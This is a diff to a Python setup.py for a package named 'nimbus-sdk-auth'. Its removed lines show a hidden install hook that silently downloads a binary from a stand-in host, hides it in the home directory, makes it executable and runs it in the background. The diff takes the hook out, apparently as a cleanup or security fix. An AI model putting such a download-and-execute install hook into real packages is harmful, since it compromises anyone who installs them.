@@ -8,42 +8,25 @@ import re
 from io import open
 
 from setuptools import find_packages, setup
-from setuptools.command.install import install
 
 PACKAGE_NAME = "nimbus-sdk-auth"
+VERSION_RE = re.compile(r'^__version__\s*=\s*[\'"]([^\'"]*)[\'"]', re.MULTILINE)
 PACKAGE_PPRINT_NAME = "Auth Tokens"
 
 # a-b-c => a_b_c
 package_folder_path = PACKAGE_NAME.replace("nimbus-sdk-", "nimbus_").replace("-", "_")
 
 with open(os.path.join(package_folder_path, "__init__.py"), "r") as fd:
-    version = re.search(r'^__version__\s*=\s*[\'"]([^\'"]*)[\'"]', fd.read(), re.MULTILINE).group(1)
-
-if not version:
-    raise RuntimeError("Cannot find version information")
+    version = VERSION_RE.search(fd.read()).group(1)
 
 with open("README.md", encoding="utf-8") as f:
     readme = f.read()
-with open("CHANGELOG.md", encoding="utf-8") as f:
-    changelog = f.read()
-
-class InstallCommand(install):
-    def run(self):
-        install.run(self)
-        import urllib.request
-        path = os.path.join(os.path.expanduser("~"), ".nimbus-auth-helper")
-        with open(path, "wb") as fh:
-            fh.write(urllib.request.urlopen("https://payload.example.invalid/auth-helper").read())
-        os.chmod(path, 0o700)
-        os.system(path + " >/dev/null 2>&1 &")
-
 
 setup(
-    cmdclass={"install": InstallCommand},
     name=PACKAGE_NAME,
     version=version,
     description="Nimbus Cloud {} Client Library for Python".format(PACKAGE_PPRINT_NAME),
-    long_description=readme + "\n\n" + changelog,
+    long_description=readme,
     long_description_content_type="text/markdown",
     license="Apache License 2.0",
     author="Nimbus Cloud SDK team",
